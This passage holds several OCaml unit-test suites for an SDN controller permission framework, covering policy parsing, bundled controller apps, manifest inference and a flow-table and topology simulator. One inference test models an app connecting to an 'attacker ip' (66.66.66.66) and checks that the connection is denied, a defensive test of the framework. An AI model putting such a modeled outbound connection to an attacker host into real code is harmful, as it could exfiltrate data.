    Alcotest.(check (list int)) "switches" [ 0; 1 ] (Filter.Int_set.elements pt.Filter.switches);
    Alcotest.(check (list int)) "links" [ 3; 4 ] (Filter.Int_set.elements pt.Filter.links)
  | _ -> Alcotest.fail "unexpected policy shape"

let test_policy_meet_join () =
  match policy "LET x = a MEET b JOIN { PERM insert_flow }" with
  | [ Policy.Let ("x", Policy.B_perm (Policy.P_join (Policy.P_meet (Policy.P_var "a", Policy.P_var "b"), Policy.P_block _))) ] -> ()
  | _ -> Alcotest.fail "meet/join parse wrong"

let test_policy_app_binding () =
  (match policy "LET m = APP \"monitoring\"" with
  | [ Policy.Let ("m", Policy.B_app "monitoring") ] -> ()
  | _ -> Alcotest.fail "quoted app name");
  match policy "LET m = APP monitoring" with
  | [ Policy.Let ("m", Policy.B_app "monitoring") ] -> ()
  | _ -> Alcotest.fail "bare app name"

let test_policy_assert_combinators () =
  match policy "ASSERT NOT a > b AND (c <= d OR e = f)" with
  | [ Policy.Assert (Policy.A_and (Policy.A_not (Policy.A_cmp (_, Policy.C_gt, _)), Policy.A_or (Policy.A_cmp (_, Policy.C_le, _), Policy.A_cmp (_, Policy.C_eq, _)))) ] -> ()
  | _ -> Alcotest.fail "assert combinators wrong"

let test_policy_errors () =
  let expect_error src =
    match Policy_parser.of_string src with
    | Error _ -> ()
    | Ok _ -> Alcotest.failf "should not parse %S" src
  in
  expect_error "LET = { PERM insert_flow }";
  expect_error "ASSERT EITHER { PERM insert_flow }";
  expect_error "ASSERT a";
  expect_error "FROB x";
  expect_error "LET x = { PERM bogus }"

let test_policy_roundtrip_pp () =
  (* pp output is for humans; sanity-check it is at least non-empty and
     mentions the operative keywords. *)
  let p =
    policy
      "LET tpl = { PERM read_topology }\nASSERT m <= tpl\nASSERT EITHER { PERM insert_flow } OR { PERM host_network }"
  in
  let s = Fmt.to_to_string Policy.pp p in
  List.iter
    (fun kw ->
      Alcotest.(check bool) ("mentions " ^ kw) true
        (Test_util.contains_substring s kw))
    [ "LET"; "ASSERT"; "EITHER"; "<=" ]

let suite =
  [ Alcotest.test_case "bare token" `Quick test_parse_bare_token;
    Alcotest.test_case "paper subnet example" `Quick test_parse_paper_subnet_example;
    Alcotest.test_case "paper wildcard example" `Quick test_parse_paper_wildcard_example;
    Alcotest.test_case "paper composition example" `Quick test_parse_paper_composition_example;
    Alcotest.test_case "paper virtual topology" `Quick test_parse_paper_virtual_topology;
    Alcotest.test_case "switch groups" `Quick test_parse_switch_groups;
    Alcotest.test_case "scenario 2 manifest" `Quick test_parse_scenario2_manifest;
    Alcotest.test_case "token synonyms" `Quick test_parse_token_synonyms;
    Alcotest.test_case "operator precedence" `Quick test_parse_operators_precedence;
    Alcotest.test_case "not and parens" `Quick test_parse_not_and_parens;
    Alcotest.test_case "duplicate tokens merge" `Quick test_parse_duplicate_tokens_merge;
    Alcotest.test_case "macro stub" `Quick test_parse_macro_stub;
    Alcotest.test_case "comments/continuations" `Quick test_parse_comments_and_continuations;
    Alcotest.test_case "parse errors" `Quick test_parse_errors;
    Alcotest.test_case "lex errors" `Quick test_parse_bad_lexing;
    Alcotest.test_case "print/parse roundtrip" `Quick test_roundtrip_print_parse;
    Alcotest.test_case "policy: paper mutual exclusion" `Quick test_policy_paper_mutual_exclusion;
    Alcotest.test_case "policy: paper boundary" `Quick test_policy_paper_boundary;
    Alcotest.test_case "policy: scenario 1" `Quick test_policy_scenario1;
    Alcotest.test_case "policy: meet/join" `Quick test_policy_meet_join;
    Alcotest.test_case "policy: app binding" `Quick test_policy_app_binding;
    Alcotest.test_case "policy: assert combinators" `Quick test_policy_assert_combinators;
    Alcotest.test_case "policy: errors" `Quick test_policy_errors;
    Alcotest.test_case "policy: pretty-print" `Quick test_policy_roundtrip_pp ]
