(* Behaviour tests for the bundled controller apps (the benign ones):
   L2 learning switch, shortest-path routing, ALTO + TE, monitoring,
   firewall. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Shield_apps

let pkt_in ~dpid ~in_port ~src ~dst =
  Events.Packet_in
    { Message.dpid; in_port; packet = Packet.arp ~src ~dst ();
      reason = Message.No_match; buffer_id = None }

let with_rt ?(switches = 3) ~mode apps f =
  let topo = Topology.linear switches in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let rt = Runtime.create ~mode kernel apps in
  Fun.protect ~finally:(fun () -> Runtime.shutdown rt) (fun () -> f topo dp kernel rt)

let host topo n = Option.get (Topology.host_by_name topo n)

(* L2 learning switch ---------------------------------------------------------- *)

let test_l2_learns_and_installs () =
  let l2 = L2_switch.create () in
  with_rt ~mode:Runtime.Monolithic [ (L2_switch.app l2, Api.allow_all) ]
    (fun _topo dp _k rt ->
      (* First packet A->B: unknown destination, flood. *)
      Runtime.feed_sync rt (pkt_in ~dpid:1 ~in_port:1 ~src:0xA ~dst:0xB);
      Alcotest.(check int) "flooded" 1 !(l2.L2_switch.floods);
      (* Reply B->A: A's port is known, install + forward. *)
      Runtime.feed_sync rt (pkt_in ~dpid:1 ~in_port:2 ~src:0xB ~dst:0xA);
      Alcotest.(check int) "one flow pinned" 1 !(l2.L2_switch.flow_mods_issued);
      let sw = Dataplane.switch dp 1 in
      Alcotest.(check int) "rule in table" 1 (Flow_table.size sw.Switch.table);
      (* Third packet A->B now also hits (B was learned from the reply). *)
      Runtime.feed_sync rt (pkt_in ~dpid:1 ~in_port:1 ~src:0xA ~dst:0xB);
      Alcotest.(check int) "second flow pinned" 2 !(l2.L2_switch.flow_mods_issued))

let test_l2_per_switch_tables () =
  let l2 = L2_switch.create () in
  with_rt ~mode:Runtime.Monolithic [ (L2_switch.app l2, Api.allow_all) ]
    (fun _topo _dp _k rt ->
      Runtime.feed_sync rt (pkt_in ~dpid:1 ~in_port:1 ~src:0xA ~dst:0xB);
      (* Same dst on another switch: nothing learned there yet. *)
      Runtime.feed_sync rt (pkt_in ~dpid:2 ~in_port:1 ~src:0xC ~dst:0xA);
      Alcotest.(check int) "both flooded" 2 !(l2.L2_switch.floods))

(* Routing ---------------------------------------------------------------------- *)

let test_routing_installs_end_to_end () =
  let r = Routing.create () in
  with_rt ~switches:4 ~mode:Runtime.Monolithic [ (Routing.app r, Api.allow_all) ]
    (fun topo dp _k _rt ->
      Alcotest.(check bool) "installed rules" true (!(r.Routing.rules_installed) > 0);
      let h1 = host topo "h1" and h4 = host topo "h4" in
      Test_util.check_probe "h1->h4 routed" "delivered-to h4"
        (Dataplane.probe dp ~src:h1 ~dst:h4 ()))

let test_routing_reacts_to_topology_change () =
  let r = Routing.create () in
  with_rt ~switches:3 ~mode:Runtime.Monolithic [ (Routing.app r, Api.allow_all) ]
    (fun _topo _dp k rt ->
      let before = !(r.Routing.rules_installed) in
      ignore
        (Kernel.exec k ~app:"env" ~cookie:0
           (Api.Modify_topology (Api.Add_switch 9)));
      Runtime.process_pending rt;
      Alcotest.(check bool) "reinstalled" true (!(r.Routing.rules_installed) > before))

(* ALTO + TE ---------------------------------------------------------------------- *)

let test_alto_publishes_cost_map () =
  let alto = Alto.create_alto () in
  let received = ref [] in
  let sink =
    App.make ~subscriptions:[ Api.E_app Alto.channel ]
      ~handle:(fun _ -> function
        | Events.App_published { payload; _ } -> received := Alto.decode_cost_map payload
        | _ -> ())
      "sink"
  in
  with_rt ~switches:3 ~mode:Runtime.Monolithic
    [ (alto.Alto.app, Api.allow_all); (sink, Api.allow_all) ]
    (fun _topo _dp _k rt ->
      Runtime.process_pending rt;
      Alcotest.(check bool) "published at init" true (!(alto.Alto.updates_published) >= 1);
      (* 3 hosts -> 3 pairs. *)
      Alcotest.(check int) "cost map pairs" 3 (List.length !received);
      (* h1-h3 costs 3 switches. *)
      let _, _, cost =
        List.find (fun (a, b, _) -> a = "h1" && b = "h3") !received
      in
      Alcotest.(check int) "h1-h3 hop count" 3 cost)

let test_te_reroutes_on_alto_update () =
  let alto = Alto.create_alto () in
  let te = Alto.create_te ~max_pairs:2 () in
  with_rt ~switches:3 ~mode:Runtime.Monolithic
    [ (alto.Alto.app, Api.allow_all); (te.Alto.app, Api.allow_all) ]
    (fun _topo dp _k rt ->
      Runtime.process_pending rt;
      Alcotest.(check bool) "te installed reroutes" true (!(te.Alto.reroutes) > 0);
      (* TE rules actually landed in the switches. *)
      let total_rules =
        List.fold_left
          (fun acc d -> acc + Flow_table.size (Dataplane.switch dp d).Switch.table)
          0 [ 1; 2; 3 ]
      in
      Alcotest.(check bool) "rules present" true (total_rules > 0))

let test_alto_cost_map_roundtrip () =
  let entries = [ ("h1", "h2", 2); ("h1", "h3", 3); ("a", "b", 1) ] in
  Alcotest.(check bool) "encode/decode" true
    (Alto.decode_cost_map (Alto.encode_cost_map entries) = entries);
  Alcotest.(check bool) "empty" true (Alto.decode_cost_map "" = [])

(* Monitoring ------------------------------------------------------------------------ *)

let test_monitoring_reports () =
  let m = Monitoring.create ~collector_ip:(ipv4_of_string "10.1.0.5") () in
  with_rt ~mode:Runtime.Monolithic [ (Monitoring.app m, Api.allow_all) ]
    (fun _topo _dp k rt ->
      Runtime.feed_sync rt Monitoring.tick_event;
      Runtime.feed_sync rt Monitoring.tick_event;
      Alcotest.(check int) "two reports" 2 !(m.Monitoring.reports_sent);
      let conns = Sandbox.connections_by k.Kernel.sandbox ~app:"monitoring" in
      Alcotest.(check int) "two connections" 2 (List.length conns);
      List.iter
        (fun (r : Sandbox.net_record) ->
          Alcotest.(check string) "to collector" "10.1.0.5" (ipv4_to_string r.Sandbox.dst))
        conns)

(* Firewall ---------------------------------------------------------------------------- *)

let test_firewall_allows_http_blocks_rest () =
  let fw = Firewall.create () in
  with_rt ~switches:3 ~mode:Runtime.Monolithic [ (Firewall.app fw, Api.allow_all) ]
    (fun topo dp _k _rt ->
      let h1 = host topo "h1" and h3 = host topo "h3" in
      Test_util.check_probe "http delivered" "delivered-to h3"
        (Dataplane.probe dp ~src:h1 ~dst:h3 ~tp_dst:80 ());
      Test_util.check_probe "telnet dropped" "dropped"
        (Dataplane.probe dp ~src:h1 ~dst:h3 ~tp_dst:23 ()))

(* Apps under their own declared manifests (least privilege sanity) ------------------------ *)

let test_apps_work_under_own_manifests () =
  (* Each benign app, run under its *declared* manifest instead of
     allow-all, must still function: the least-privilege manifests are
     sufficient. *)
  let ownership = Sdnshield.Ownership.create () in
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let l2 = L2_switch.create () in
  let mon = Monitoring.create ~collector_ip:(ipv4_of_string "10.1.0.5") () in
  let mk name src = Test_util.checker_of ~ownership ~topo ~name ~cookie:0 src in
  (* Monitoring's shipped manifest has stubs; reconcile first, as the
     deployment flow prescribes. *)
  let mon_manifest =
    match
      Sdnshield.Reconcile.run_strings ~app_name:"monitoring"
        ~manifest_src:Monitoring.manifest_src
        ~policy_src:
          (Monitoring.policy_src ~switches:[ 1; 2; 3 ] ~admin_subnet:"10.1.0.0"
             ~admin_mask:"255.255.0.0")
    with
    | Ok (m, _) -> m
    | Error e -> Alcotest.fail e
  in
  let mon_engine =
    Sdnshield.Engine.create ~topo ~ownership ~app_name:"monitoring" ~cookie:2
      mon_manifest
  in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (L2_switch.app l2, mk "l2switch" L2_switch.manifest_src);
        (Monitoring.app mon, Sdnshield.Engine.checker mon_engine) ]
  in
  Runtime.feed_sync rt (pkt_in ~dpid:1 ~in_port:1 ~src:0xA ~dst:0xB);
  Runtime.feed_sync rt (pkt_in ~dpid:1 ~in_port:2 ~src:0xB ~dst:0xA);
  Runtime.feed_sync rt Monitoring.tick_event;
  Runtime.shutdown rt;
  Alcotest.(check int) "l2 pinned a flow" 1 !(l2.L2_switch.flow_mods_issued);
  Alcotest.(check int) "monitor reported" 1 !(mon.Monitoring.reports_sent);
  Alcotest.(check int) "monitor report not denied" 0 !(mon.Monitoring.reports_failed)

let suite =
  [ Alcotest.test_case "l2: learns and installs" `Quick test_l2_learns_and_installs;
    Alcotest.test_case "l2: per-switch tables" `Quick test_l2_per_switch_tables;
    Alcotest.test_case "routing: end-to-end" `Quick test_routing_installs_end_to_end;
    Alcotest.test_case "routing: topology change" `Quick test_routing_reacts_to_topology_change;
    Alcotest.test_case "alto: publishes cost map" `Quick test_alto_publishes_cost_map;
    Alcotest.test_case "alto+te: reroutes" `Quick test_te_reroutes_on_alto_update;
    Alcotest.test_case "alto: cost-map roundtrip" `Quick test_alto_cost_map_roundtrip;
    Alcotest.test_case "monitoring: reports" `Quick test_monitoring_reports;
    Alcotest.test_case "firewall: http only" `Quick test_firewall_allows_http_blocks_rest;
    Alcotest.test_case "apps under own manifests" `Quick test_apps_work_under_own_manifests ]
