(* Manifest inference from recorded behaviour (§III's dynamic-analysis
   manifest generation). *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Shield_apps
open Sdnshield

let ip = ipv4_of_string

let insert ?(dpid = 1) ?(priority = 100) ?(actions = [ Action.Output 1 ]) dst =
  Api.Install_flow
    ( dpid,
      Flow_mod.add ~priority
        ~match_:(Match_fields.make ~dl_type:Eth_ip ~nw_dst:(Match_fields.exact_ip (ip dst)) ())
        ~actions () )

let env = Filter_eval.pure_env

let allows manifest call =
  let attrs = Attrs.of_call call in
  match Engine.token_of_call call with
  | None -> true
  | Some token -> (
    match Perm.find manifest token with
    | None -> false
    | Some p -> Filter_eval.eval env p.Perm.filter attrs)

let test_infer_tokens_only_used () =
  let trace = [ Api.Read_topology; insert "10.1.2.3" ] in
  let m = Infer.of_trace trace in
  Alcotest.(check bool) "topology" true (Perm.grants_token m Token.Visible_topology);
  Alcotest.(check bool) "insert" true (Perm.grants_token m Token.Insert_flow);
  Alcotest.(check bool) "no stats" false (Perm.grants_token m Token.Read_statistics);
  Alcotest.(check bool) "no host io" false (Perm.grants_token m Token.Host_network)

let test_infer_ip_hull () =
  let trace = [ insert "10.1.2.3"; insert "10.1.9.9"; insert "10.1.200.1" ] in
  let m = Infer.of_trace trace in
  (* Everything observed sits in 10.1.0.0/16: the hull must allow the
     whole trace but reject addresses outside it. *)
  List.iter
    (fun call -> Alcotest.(check bool) "trace allowed" true (allows m call))
    trace;
  Alcotest.(check bool) "outside hull denied" false
    (allows m (insert "10.2.0.1"));
  Alcotest.(check bool) "far outside denied" false
    (allows m (insert "192.168.0.1"))

let test_infer_action_kinds () =
  let trace = [ insert "10.0.0.1" ] in
  let m = Infer.of_trace trace in
  Alcotest.(check bool) "forward allowed" true (allows m (insert "10.0.0.1"));
  Alcotest.(check bool) "drop not observed, denied" false
    (allows m (insert ~actions:[] "10.0.0.1"));
  Alcotest.(check bool) "rewrite not observed, denied" false
    (allows m
       (insert ~actions:[ Action.Set (Action.Set_tp_dst 80); Action.Output 1 ]
          "10.0.0.1"));
  (* A trace with rewrites widens the action envelope. *)
  let m2 =
    Infer.of_trace
      [ insert ~actions:[ Action.Set (Action.Set_tp_dst 80); Action.Output 1 ]
          "10.0.0.1" ]
  in
  Alcotest.(check bool) "rewrite allowed when observed" true
    (allows m2
       (insert ~actions:[ Action.Set (Action.Set_tp_dst 80); Action.Output 1 ]
          "10.0.0.1"))

let test_infer_priority_ceiling () =
  let m = Infer.of_trace [ insert ~priority:300 "10.0.0.1" ] in
  Alcotest.(check bool) "at ceiling ok" true
    (allows m (insert ~priority:300 "10.0.0.1"));
  Alcotest.(check bool) "above ceiling denied" false
    (allows m (insert ~priority:301 "10.0.0.1"))

let test_infer_pkt_out_provenance () =
  let po b =
    Api.Send_packet_out
      { dpid = 1; port = 1; packet = Packet.arp ~src:1 ~dst:2 (); from_pkt_in = b }
  in
  let replay_only = Infer.of_trace [ po true ] in
  Alcotest.(check bool) "replay allowed" true (allows replay_only (po true));
  Alcotest.(check bool) "arbitrary denied" false (allows replay_only (po false));
  let arbitrary = Infer.of_trace [ po false ] in
  Alcotest.(check bool) "arbitrary allowed when observed" true
    (allows arbitrary (po false))

let test_infer_stats_levels () =
  let rd l = Api.Read_stats (Stats.request l) in
  let m = Infer.of_trace [ rd Stats.Port_level ] in
  Alcotest.(check bool) "port ok" true (allows m (rd Stats.Port_level));
  Alcotest.(check bool) "flow denied" false (allows m (rd Stats.Flow_level))

let test_infer_net_hull () =
  let conn dst =
    Api.Syscall (Api.Net_connect { dst = ip dst; dst_port = 80; payload = "" })
  in
  let m = Infer.of_trace [ conn "10.1.0.5"; conn "10.1.0.9" ] in
  Alcotest.(check bool) "observed collector ok" true (allows m (conn "10.1.0.5"));
  Alcotest.(check bool) "attacker ip denied" false (allows m (conn "66.66.66.66"))

(* End-to-end: record a real app, infer, then the app still works under
   the inferred manifest. *)
let test_infer_l2switch_end_to_end () =
  let pkt_in dpid in_port src dst =
    Events.Packet_in
      { Message.dpid; in_port; packet = Packet.arp ~src ~dst ();
        reason = Message.No_match; buffer_id = None }
  in
  let events =
    [ pkt_in 1 1 0xA 0xB; pkt_in 1 2 0xB 0xA; pkt_in 2 1 0xC 0xA ]
  in
  (* Phase 1: record. *)
  let topo = Topology.linear 3 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let l2 = L2_switch.create () in
  let inferred = Infer.of_app_run ~kernel (L2_switch.app l2) events in
  Alcotest.(check bool) "pkt_in_event inferred" true
    (Perm.grants_token inferred Token.Pkt_in_event);
  Alcotest.(check bool) "insert inferred" true
    (Perm.grants_token inferred Token.Insert_flow);
  Alcotest.(check bool) "pkt-out inferred" true
    (Perm.grants_token inferred Token.Send_pkt_out);
  Alcotest.(check bool) "no topology write" false
    (Perm.grants_token inferred Token.Modify_topology);
  (* Phase 2: replay under the inferred manifest — zero denials. *)
  let topo2 = Topology.linear 3 in
  let kernel2 = Kernel.create (Dataplane.create topo2) in
  let l2b = L2_switch.create () in
  let engine =
    Engine.create ~ownership:(Ownership.create ()) ~app_name:"l2" ~cookie:1
      inferred
  in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel2
      [ (L2_switch.app l2b, Engine.checker engine) ]
  in
  List.iter (Runtime.feed_sync rt) events;
  Runtime.shutdown rt;
  let _, denials = Engine.stats engine in
  Alcotest.(check int) "no denials under inferred manifest" 0 denials

let test_recorder_captures_transactions () =
  let checker, calls = Infer.recorder () in
  (match checker.Api.check_transaction [ Api.Read_topology; insert "10.0.0.1" ] with
  | Ok () -> ()
  | Error _ -> Alcotest.fail "recorder must allow");
  Alcotest.(check int) "both recorded" 2 (List.length (calls ()))

let qsuite =
  [ QCheck.Test.make ~count:300
      ~name:"inferred manifest admits its own trace"
      (QCheck.list_of_size (QCheck.Gen.int_range 1 20) Test_filters.call_arb)
      (fun trace ->
        let m = Infer.of_trace trace in
        List.for_all (fun call -> allows m call) trace) ]

let suite =
  [ Alcotest.test_case "tokens: only what was used" `Quick test_infer_tokens_only_used;
    Alcotest.test_case "ip hull" `Quick test_infer_ip_hull;
    Alcotest.test_case "action kinds" `Quick test_infer_action_kinds;
    Alcotest.test_case "priority ceiling" `Quick test_infer_priority_ceiling;
    Alcotest.test_case "pkt-out provenance" `Quick test_infer_pkt_out_provenance;
    Alcotest.test_case "stats levels" `Quick test_infer_stats_levels;
    Alcotest.test_case "host-network hull" `Quick test_infer_net_hull;
    Alcotest.test_case "l2switch end-to-end" `Quick test_infer_l2switch_end_to_end;
    Alcotest.test_case "recorder transactions" `Quick test_recorder_captures_transactions ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
