(* Unit tests for the network simulator: flow tables, topology, switch
   pipeline, data-plane packet walk. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net

let ip = ipv4_of_string

let pkt ?(nw_src = "10.0.0.1") ?(nw_dst = "10.0.0.2") ?(tp_dst = 80)
    ?(src = 11) ?(dst = 22) () =
  Packet.tcp ~src ~dst ~nw_src:(ip nw_src) ~nw_dst:(ip nw_dst) ~tp_src:4321
    ~tp_dst ()

(* Flow table ---------------------------------------------------------------- *)

let test_table_priority_order () =
  let t = Flow_table.create () in
  let lo =
    Flow_mod.add ~priority:10 ~match_:Match_fields.wildcard_all ~actions:[] ()
  in
  let hi =
    Flow_mod.add ~priority:200
      ~match_:(Match_fields.make ~tp_dst:80 ())
      ~actions:[ Action.Output 3 ] ()
  in
  ignore (Flow_table.apply t lo);
  ignore (Flow_table.apply t hi);
  (match Flow_table.lookup t ~in_port:1 (pkt ()) with
  | Some e -> Alcotest.(check int) "high wins" 200 e.Flow_table.priority
  | None -> Alcotest.fail "expected a hit");
  match Flow_table.lookup t ~in_port:1 (pkt ~tp_dst:443 ()) with
  | Some e -> Alcotest.(check int) "falls to low" 10 e.Flow_table.priority
  | None -> Alcotest.fail "expected the catch-all"

let test_table_add_replaces () =
  let t = Flow_table.create () in
  let m = Match_fields.make ~tp_dst:80 () in
  ignore
    (Flow_table.apply t (Flow_mod.add ~priority:5 ~match_:m ~actions:[ Action.Output 1 ] ()));
  let removed =
    Flow_table.apply t
      (Flow_mod.add ~priority:5 ~match_:m ~actions:[ Action.Output 2 ] ())
  in
  Alcotest.(check int) "replaced one" 1 (List.length removed);
  Alcotest.(check int) "size 1" 1 (Flow_table.size t);
  match Flow_table.lookup t ~in_port:1 (pkt ()) with
  | Some e ->
    Alcotest.(check bool) "new actions" true (e.Flow_table.actions = [ Action.Output 2 ])
  | None -> Alcotest.fail "expected hit"

let test_table_modify () =
  let t = Flow_table.create () in
  let m = Match_fields.make ~tp_dst:80 () in
  ignore (Flow_table.apply t (Flow_mod.add ~priority:5 ~match_:m ~actions:[] ()));
  ignore
    (Flow_table.apply t
       (Flow_mod.modify ~match_:Match_fields.wildcard_all
          ~actions:[ Action.Output 9 ] ()));
  (match Flow_table.lookup t ~in_port:1 (pkt ()) with
  | Some e ->
    Alcotest.(check bool) "modified" true (e.Flow_table.actions = [ Action.Output 9 ])
  | None -> Alcotest.fail "expected hit");
  (* Modify with no match behaves as add (OF 1.0). *)
  let t2 = Flow_table.create () in
  ignore
    (Flow_table.apply t2 (Flow_mod.modify ~match_:m ~actions:[ Action.Output 1 ] ()));
  Alcotest.(check int) "modify-as-add" 1 (Flow_table.size t2)

let test_table_delete_subsumed () =
  let t = Flow_table.create () in
  ignore
    (Flow_table.apply t
       (Flow_mod.add ~priority:5
          ~match_:(Match_fields.make ~tp_dst:80 ~nw_dst:(Match_fields.exact_ip (ip "10.0.0.2")) ())
          ~actions:[] ()));
  ignore
    (Flow_table.apply t
       (Flow_mod.add ~priority:9
          ~match_:(Match_fields.make ~tp_dst:443 ())
          ~actions:[] ()));
  let removed =
    Flow_table.apply t
      (Flow_mod.delete ~match_:(Match_fields.make ~tp_dst:80 ()) ())
  in
  Alcotest.(check int) "one removed" 1 (List.length removed);
  Alcotest.(check int) "one left" 1 (Flow_table.size t)

let test_table_counters_and_stats () =
  let t = Flow_table.create () in
  ignore
    (Flow_table.apply t
       (Flow_mod.add ~priority:5 ~cookie:42 ~match_:Match_fields.wildcard_all
          ~actions:[ Action.Output 1 ] ()));
  ignore (Flow_table.lookup t ~in_port:1 (pkt ()));
  ignore (Flow_table.lookup t ~in_port:1 (pkt ()));
  match Flow_table.flow_stats t None with
  | [ fs ] ->
    Alcotest.(check int64) "2 packets" 2L fs.Stats.packet_count;
    Alcotest.(check int) "cookie" 42 fs.Stats.cookie;
    Alcotest.(check bool) "bytes counted" true (fs.Stats.byte_count > 0L)
  | l -> Alcotest.failf "expected 1 stat, got %d" (List.length l)

let test_table_count_by_cookie () =
  let t = Flow_table.create () in
  let add cookie tp =
    ignore
      (Flow_table.apply t
         (Flow_mod.add ~cookie ~match_:(Match_fields.make ~tp_dst:tp ()) ~actions:[] ()))
  in
  add 1 80;
  add 1 81;
  add 2 82;
  Alcotest.(check int) "cookie 1" 2 (Flow_table.count_by_cookie t 1);
  Alcotest.(check int) "cookie 2" 1 (Flow_table.count_by_cookie t 2);
  Alcotest.(check int) "cookie 3" 0 (Flow_table.count_by_cookie t 3)

let test_table_hard_timeout () =
  let t = Flow_table.create () in
  ignore
    (Flow_table.apply t
       (Flow_mod.add ~hard_timeout:2 ~match_:Match_fields.wildcard_all ~actions:[] ()));
  Flow_table.tick t;
  Alcotest.(check int) "not yet" 0 (List.length (Flow_table.expire t));
  Flow_table.tick t;
  Alcotest.(check int) "expired" 1 (List.length (Flow_table.expire t));
  Alcotest.(check int) "gone" 0 (Flow_table.size t)

(* Topology ------------------------------------------------------------------ *)

let test_topology_linear () =
  let t = Topology.linear 4 in
  Alcotest.(check int) "switches" 4 (List.length (Topology.switches t));
  Alcotest.(check int) "undirected links" 3 (List.length (Topology.undirected_links t));
  Alcotest.(check int) "hosts" 4 (List.length (Topology.hosts t));
  match Topology.shortest_path t ~src:1 ~dst:4 with
  | Some path -> Alcotest.(check (list int)) "path" [ 1; 2; 3; 4 ] path
  | None -> Alcotest.fail "expected a path"

let test_topology_tree () =
  let t = Topology.tree ~fanout:3 ~hosts_per_leaf:2 in
  Alcotest.(check int) "switches" 4 (List.length (Topology.switches t));
  Alcotest.(check int) "hosts" 6 (List.length (Topology.hosts t));
  match Topology.shortest_path t ~src:2 ~dst:4 with
  | Some path -> Alcotest.(check (list int)) "via root" [ 2; 1; 4 ] path
  | None -> Alcotest.fail "expected a path"

let test_topology_disconnect () =
  let t = Topology.linear 3 in
  Topology.remove_link t ~src:{ Topology.dpid = 1; port = 2 }
    ~dst:{ Topology.dpid = 2; port = 1 };
  Alcotest.(check bool) "disconnected" false (Topology.connected t ~src:1 ~dst:3);
  Alcotest.(check bool) "rest connected" true (Topology.connected t ~src:2 ~dst:3)

let test_topology_remove_switch () =
  let t = Topology.linear 3 in
  Topology.remove_switch t 2;
  Alcotest.(check int) "two left" 2 (List.length (Topology.switches t));
  Alcotest.(check bool) "split" false (Topology.connected t ~src:1 ~dst:3);
  Alcotest.(check int) "host gone too" 2 (List.length (Topology.hosts t))

let test_topology_lookups () =
  let t = Topology.linear 3 in
  (match Topology.host_by_name t "h2" with
  | Some h ->
    Alcotest.(check int) "attached to s2" 2 h.Topology.attachment.Topology.dpid;
    Alcotest.(check bool) "by mac" true (Topology.host_by_mac t h.Topology.mac <> None);
    Alcotest.(check bool) "by ip" true (Topology.host_by_ip t h.Topology.ip <> None)
  | None -> Alcotest.fail "h2 missing");
  Alcotest.(check bool) "no h9" true (Topology.host_by_name t "h9" = None)

let test_topology_path_hops () =
  let t = Topology.linear 3 in
  let hops = Topology.path_hops t [ 1; 2; 3 ] in
  Alcotest.(check int) "3 hops" 3 (List.length hops);
  (match hops with
  | [ (None, 1, Some 2); (Some 1, 2, Some 2); (Some 1, 3, None) ] -> ()
  | _ -> Alcotest.fail "unexpected hop structure");
  Alcotest.(check bool) "peer" true
    (Topology.peer_of t { Topology.dpid = 1; port = 2 }
    = Some { Topology.dpid = 2; port = 1 })

(* Switch -------------------------------------------------------------------- *)

let test_switch_table_miss_punts () =
  let sw = Switch.create ~dpid:1 ~ports:[ 1; 2 ] in
  match Switch.process sw ~in_port:1 (pkt ()) with
  | [ Switch.To_controller _ ] -> ()
  | _ -> Alcotest.fail "miss should punt to controller"

let test_switch_forward_and_flood () =
  let sw = Switch.create ~dpid:1 ~ports:[ 1; 2; 3 ] in
  ignore
    (Switch.apply_flow_mod sw
       (Flow_mod.add ~match_:(Match_fields.make ~tp_dst:80 ())
          ~actions:[ Action.Output 3 ] ()));
  (match Switch.process sw ~in_port:1 (pkt ()) with
  | [ Switch.Forward (3, _) ] -> ()
  | _ -> Alcotest.fail "expected forward to 3");
  ignore
    (Switch.apply_flow_mod sw
       (Flow_mod.add ~priority:300 ~match_:(Match_fields.make ~tp_dst:81 ())
          ~actions:[ Action.Flood ] ()));
  match Switch.process sw ~in_port:1 (pkt ~tp_dst:81 ()) with
  | outs ->
    let ports =
      List.filter_map (function Switch.Forward (p, _) -> Some p | _ -> None) outs
      |> List.sort compare
    in
    Alcotest.(check (list int)) "flood skips ingress" [ 2; 3 ] ports

let test_switch_drop_and_counters () =
  let sw = Switch.create ~dpid:1 ~ports:[ 1; 2 ] in
  ignore
    (Switch.apply_flow_mod sw
       (Flow_mod.add ~match_:Match_fields.wildcard_all ~actions:[] ()));
  (match Switch.process sw ~in_port:1 (pkt ()) with
  | [ Switch.Dropped ] -> ()
  | _ -> Alcotest.fail "expected drop");
  let stats = Switch.port_stats sw in
  let p1 = List.find (fun (s : Stats.port_stat) -> s.port_no = 1) stats in
  Alcotest.(check int64) "rx counted" 1L p1.Stats.rx_packets;
  Alcotest.(check int64) "drop counted" 1L p1.Stats.rx_dropped

let test_switch_rewrite_pipeline () =
  let sw = Switch.create ~dpid:1 ~ports:[ 1; 2 ] in
  ignore
    (Switch.apply_flow_mod sw
       (Flow_mod.add ~match_:(Match_fields.make ~tp_dst:23 ())
          ~actions:[ Action.Set (Action.Set_tp_dst 80); Action.Output 2 ] ()));
  match Switch.process sw ~in_port:1 (pkt ~tp_dst:23 ()) with
  | [ Switch.Forward (2, p) ] ->
    Alcotest.(check int) "rewritten on the wire" 80
      (Option.get p.Packet.tp).Packet.tp_dst
  | _ -> Alcotest.fail "expected rewritten forward"

(* Dataplane ------------------------------------------------------------------ *)

let linear_dp n =
  let topo = Topology.linear n in
  (topo, Dataplane.create topo)

let host topo name = Option.get (Topology.host_by_name topo name)

let test_dataplane_miss_punts_at_ingress () =
  let topo, dp = linear_dp 3 in
  let h1 = host topo "h1" and h3 = host topo "h3" in
  let p =
    Packet.tcp ~src:h1.Topology.mac ~dst:h3.Topology.mac ~nw_src:h1.Topology.ip
      ~nw_dst:h3.Topology.ip ~tp_src:1 ~tp_dst:80 ()
  in
  let r = Dataplane.inject_from_host dp h1 p in
  Alcotest.(check int) "one punt" 1 (List.length r.Dataplane.punted);
  let punt = List.hd r.Dataplane.punted in
